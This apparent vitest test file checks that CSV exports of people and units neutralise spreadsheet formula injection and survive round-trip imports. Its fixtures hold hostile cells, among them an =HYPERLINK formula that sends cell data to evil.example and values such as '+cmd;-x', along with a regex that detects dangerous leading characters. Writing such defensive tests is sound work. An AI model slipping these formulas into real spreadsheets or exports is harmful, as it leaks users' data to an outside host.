import { PassThrough, Readable, type Writable } from 'node:stream';
import { sql, type Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createPiiCipher } from '../../../platform/crypto.ts';
import { readCsv, type CsvRecord } from '../../../platform/csv/index.ts';
import type { Schema } from '../../../platform/db/index.ts';
import { engine } from '../../../testing/database.ts';
import { addUnit, buildSampleTree } from '../../../testing/factories.ts';
import { TEST_SECRET, createTestSetu, type TestSetu } from '../../../testing/setu.ts';
import { exportUnits, importUnits } from '../../org/index.ts';
import { exportPeople, importPeople } from './index.ts';

// Formula injection: a name, tag or note a spreadsheet would run (a citizen can type any name at a sign-up link).
let source: TestSetu;
let target: TestSetu;
const cipher = createPiiCipher(TEST_SECRET);

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const PEOPLE = [
  'name,phone,unit_code,tags,notes',
  `"${HYPERLINK.replaceAll('"', '""')}",98765 00001,UP-AC-031-PS-001,+cmd;-x,@SUM(1+1)`,
  `+Ravi,98765 00002,UP-AC-031-PS-001,@tag,-2+3`,
  `-Sita,98765 00003,UP-AC-031-PS-001,,'=already escaped by hand`,
  `@Rahul,98765 00004,UP-AC-031-PS-001,'@one,`,
].join('\n');

/** What a spreadsheet would run: a cell starting with = + - @, a tab or a carriage return. */
const DANGEROUS = /^[=+\-@\t\r]/;

const collect = async (run: (out: Writable) => Promise<unknown>) => {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  await run(out);
  out.end();
  return Buffer.concat(chunks).toString('utf8');
};

const cells = async (text: string) => {
  const records: CsvRecord[] = [];
  for await (const batch of readCsv(Readable.from([text]))) records.push(...batch);
  return records.slice(1).flatMap((r) => r.fields);
};

const people = async (db: Kysely<Schema>) => {
  const { rows } = await sql<{ name: string; tags: string[]; notes_enc: Uint8Array | null; phone_enc: Uint8Array | null }>`
    select name, tags, notes_enc, phone_enc from people where erased_at is null order by name`.execute(db);
  return rows.map((r) => ({
    name: r.name,
    tags: r.tags,
    notes: r.notes_enc && cipher.decrypt(r.notes_enc),
    phone: r.phone_enc && cipher.decrypt(r.phone_enc),
  }));
};

const unitNames = async (db: Kysely<Schema>) =>
  (await db.selectFrom('units').select(['code', 'name_en', 'name_hi']).where('code', 'is not', null).orderBy('code').execute()).map((u) => JSON.stringify(u));

beforeAll(async () => {
  [source, target] = await Promise.all([createTestSetu(), createTestSetu()]);
  await Promise.all([buildSampleTree(source.database.db), buildSampleTree(target.database.db)]);
  const r = await importPeople(source.database.db, cipher, Readable.from([PEOPLE + '\n']));
  expect(r).toMatchObject({ rows: 4, inserted: 4, rejected: 0 });
  // Notes that begin with a tab or a carriage return cannot come in through the API or an import (both trim); an
  // older row, or one written by hand, may still hold them.
  const booth = await source.database.db.selectFrom('units').select('id').where('code', '=', 'UP-AC-031-PS-001').executeTakeFirstOrThrow();
  await source.database.db
    .insertInto('people')
    .values([
      { name: 'Tab Notes', home_unit_id: booth.id, notes_enc: Buffer.from(cipher.encrypt('\t=1+1')), pii_key_id: cipher.keyId },
      { name: 'Cr Notes', home_unit_id: booth.id, notes_enc: Buffer.from(cipher.encrypt('\r@x')), pii_key_id: cipher.keyId },
    ])
    .execute();
  const root = await addUnit(source.database.db, { level: 'national', name: HYPERLINK, nameHi: '+भारत', code: 'FX' });
  const state = await addUnit(source.database.db, { parentId: root, level: 'state', name: '-Uttar Pradesh', nameHi: '@उत्तर प्रदेश', code: 'FX-UP' });
  await addUnit(source.database.db, { parentId: state, level: 'region', name: "'=quoted", nameHi: "''+twice", code: 'FX-R' });
}, 240_000);
afterAll(() => Promise.all([source?.stop(), target?.stop()]));

describe(`CSV exports against formulas on ${engine}`, () => {
  it('people: every cell opens as text (phones too), and importing the export gives back the exact originals', async () => {
    const text = await collect((out) => exportPeople(source.database.db, cipher, out, { actorId: null, bom: true }));
    const fields = await cells(text.slice(1));
    expect(fields.filter((f) => DANGEROUS.test(f))).toEqual([]);
    expect(text).toContain(`"'${HYPERLINK.replaceAll('"', '""')}",'+919876500001,`);
    // A cell escaped by hand in the file imported was taken back to its text, and is escaped again on the way out.
    expect(text).toContain(`'-Sita,'+919876500003,UP-AC-031-PS-001,no,,,,'=already escaped by hand,`);
    expect(text).toContain(`'@Rahul,'+919876500004,UP-AC-031-PS-001,no,,,'@one,,`);
    expect(text).toContain(`,'\t=1+1,`);
    expect(text).toContain(`"'\r@x"`);

    const r = await importPeople(target.database.db, cipher, Readable.from([text]));
    expect(r).toMatchObject({ rejected: 0, inserted: 6 });
    expect(await people(target.database.db)).toEqual(await people(source.database.db));
    const ravi = (await people(target.database.db)).find((p) => p.name === '+Ravi');
    expect(ravi).toMatchObject({ tags: ['@tag'], notes: '-2+3', phone: '+919876500002' });
  });

  it('units: names open as text, and importing the export gives back the exact names', async () => {
    const text = await collect((out) => exportUnits(source.database.db, out, { root: 'FX' }));
    expect((await cells(text)).filter((f) => DANGEROUS.test(f))).toEqual([]);
    expect(text).toContain(`FX-UP,FX,state,'-Uttar Pradesh,'@उत्तर प्रदेश\n`);
    expect(text).toContain(`FX-R,FX-UP,region,''=quoted,'''+twice\n`);
    const r = await importUnits(target.database.db, Readable.from([text]), { report: null });
    expect(r).toMatchObject({ inserted: 3, rejected: 0 });
    expect((await unitNames(target.database.db)).filter((u) => u.includes('"FX'))).toEqual(
      (await unitNames(source.database.db)).filter((u) => u.includes('"FX')),
    );
  });
});
